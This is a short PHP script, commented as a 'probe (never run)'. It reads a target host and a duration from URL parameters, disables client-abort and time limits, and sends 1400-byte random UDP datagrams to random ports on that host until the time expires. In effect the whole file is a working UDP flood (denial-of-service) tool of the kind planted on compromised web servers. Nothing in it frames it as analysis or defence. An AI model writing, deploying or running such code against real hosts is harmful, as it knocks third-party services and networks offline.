<?php
// probe (never run): datagrams of random bytes sent to a host until the time is up
ignore_user_abort(true); set_time_limit(0);
$host = gethostbyname($_GET['t']);
$stop = time() + (int) $_GET['s'];
$pkt = random_bytes(1400);
$sk = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);
$sent = 0;
do {
    socket_sendto($sk, $pkt, strlen($pkt), 0, $host, rand(1, 65535));
    $sent++;
} while (microtime(true) < $stop);
echo "$sent packets";
